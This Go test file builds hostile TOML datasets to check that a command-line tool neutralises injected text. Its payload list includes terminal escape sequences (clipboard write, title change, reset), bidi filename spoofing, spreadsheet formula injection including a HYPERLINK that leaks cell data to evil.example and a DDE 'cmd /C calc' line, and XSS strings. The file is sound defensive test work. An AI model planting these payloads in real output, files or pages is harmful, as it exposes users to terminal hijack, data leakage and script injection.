package cli

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/mutuals/mutuals/model"
)

// attacks are text a data file or a command line could use to act on a
// terminal or on what reads the output: the issue's, and more.
var attacks = []string{
	"\x1b]0;PWNED\a",           // OSC 0: sets the window title
	"\x1b]52;c;cGF5bG9hZA==\a", // OSC 52: writes the clipboard
	"\x1b[2J\x1b[H",            // clears the screen
	"\x1b[31mred\x1b[0m",       // colour
	"\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\", // a hyperlink
	"\x1b[6n",                                               // asks for the cursor position: the terminal types the answer
	"\x1bP+q544e\x1b\\",                                     // DCS XTGETTCAP: the terminal types the answer
	"\x1b[?1049h",                                           // the alternate screen
	"\x1bc",                                                 // RIS: resets the terminal
	"\x1b]1337;File=inline=1:AAAA\a",                        // iTerm2 inline file
	"\u009b2J", "\u009d0;C1 title\u009c", "\u0085next line", // C1: CSI, OSC and ST, NEL
	"\u202egnp.exe", "a\u2066b\u2069c", "\u061c\u200e\u200f", // bidi controls
	"nul\x00bell\a\bback\x7fdel\x0bv\x0cf", // C0 and DEL
	"tab\tcr\rlf\n",                        // line breaks and tabs
	`=HYPERLINK("http://evil.example/?x="&A1,"Click")`, "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1",
	"<img src=x onerror=alert(1)>", "[click](javascript:alert(1))", "<script>&amp;</script>",
	"| pipe | cell |", "\\", "`code`",
	"\n=1+1", "\u200b\u00a0=1+1", // a formula after blanks
	"https://evil.example", "www.evil.example", "boss@evil.example", // bare addresses GFM links
	"*em* _em_ ~~gone~~", "# heading", // emphasis, strike-through, a block marker
}

// tomlString writes s as a TOML basic string, every control as \uXXXX.
func tomlString(s string) string {
	var b strings.Builder
	b.WriteByte('"')
	for _, r := range s {
		switch {
		case r == '"' || r == '\\':
			b.WriteByte('\\')
			b.WriteRune(r)
		case model.Unsafe(r):
			fmt.Fprintf(&b, `\u%04X`, r)
		default:
			b.WriteRune(r)
		}
	}
	b.WriteByte('"')
	return b.String()
}

func tomlList(ss ...string) string {
	q := make([]string, len(ss))
	for i, s := range ss {
		q[i] = tomlString(s)
	}
	return "[" + strings.Join(q, ", ") + "]"
}

// writeHostileData writes a dataset with an attack in every text field
// of the programme, three mutuals (all named "evil …", so "evil" is an
// ambiguous REF), their events and readings, and their sources.
func writeHostileData(t testing.TB) string {
	t.Helper()
	var b strings.Builder
	a := func(i int) string { return attacks[i%len(attacks)] }
	fmt.Fprintf(&b, "[programme]\nname = %s\nsummary = %s\nmentor_pool = %s\nsources = [\"s0\"]\n\n",
		tomlString(a(0)), tomlString(a(1)), tomlList(attacks...))
	for i := range 3 {
		fmt.Fprintf(&b, "[[source]]\nid = \"s%d\"\ntitle = %s\npublisher = %s\nauthor = %s\nurl = %s\nnote = %s\n\n",
			i, tomlString(a(i)), tomlString(a(i+1)), tomlString(a(i+2)), tomlString([]string{"javascript:alert(1)", "https://x.example/<script>", a(i + 3)}[i]), tomlString(a(i+4)))
	}
	for i := range 3 {
		fmt.Fprintf(&b, "[[mutual]]\nid = \"evil-%c\"\nname = %s\nlocation = %s\nregion = %s\n", 'a'+i,
			tomlString("evil "+a(i*7)), tomlString("at "+a(i*7+1)), tomlString(a(i*7+2)))
		fmt.Fprintf(&b, "service_area = %s\nstaff_groups = %s\nmentors = %s\nlegal_form = %s\npartners = %s\n",
			tomlList(a(i*7+3), "shared "+a(0)), tomlList(a(i*7+4)), tomlList(a(i*7+5)), tomlString(a(i*7+6)), tomlList(attacks...))
		fmt.Fprintf(&b, "became = %s\noutcome = %s\nsummary = %s\nsources = [\"s0\", \"s%d\"]\n\n",
			tomlString(a(i*7+7)), tomlString(a(i*7+8)), tomlString(strings.Join(attacks, " ")), i)
		for j := range 3 {
			fmt.Fprintf(&b, "[[mutual.event]]\ndate = \"201%d\"\nkind = %q\ntext = %s\nsources = [\"s%d\"]\n\n",
				j, []string{"announced", "launched", "wound-up"}[j], tomlString(a(i*3+j)), i)
		}
		fmt.Fprintf(&b, "[[mutual.reading]]\nfield = \"legal_form\"\nvalue = %s\nsources = [\"s0\"]\n\n", tomlString(a(i+9)))
	}
	path := filepath.Join(t.TempDir(), "hostile.toml")
	if err := os.WriteFile(path, []byte(b.String()), 0o600); err != nil {
		t.Fatal(err)
	}
	return path
}

// writeBrokenData writes files whose problems echo hostile text: an
// unknown key, a bad id, a bad date and an undefined source, each holding
// escapes.
func writeBrokenData(t testing.TB) string {
	t.Helper()
	var b strings.Builder
	b.WriteString("[[mutual]]\n")
	fmt.Fprintf(&b, "%s = 1\n", tomlString("sevice\x1b]0;PWNED\a"))
	fmt.Fprintf(&b, "id = %s\nname = %s\nlocation = \"x\"\nservice_area = [\"x\"]\nstaff_groups = [\"x\"]\nsummary = \"x\"\n", tomlString("Bad\x1b[2J"), tomlString("\u202ename"))
	fmt.Fprintf(&b, "sources = [%s]\n\n[[mutual.event]]\ndate = %s\nkind = %s\ntext = \"x\"\nsources = [\"x\"]\n",
		tomlString("nowhere\x1b]52;c;eA==\a"), tomlString("2010\x1b[6n"), tomlString("\u009bkind"))
	b.WriteString("raw = \"\x1b]0;raw ESC in the file\x07\"\n")
	path := filepath.Join(t.TempDir(), "broken\x1b]0;PATH\a.toml")
	if err := os.WriteFile(path, []byte(b.String()), 0o600); err != nil {
		t.Fatal(err)
	}
	return path
}
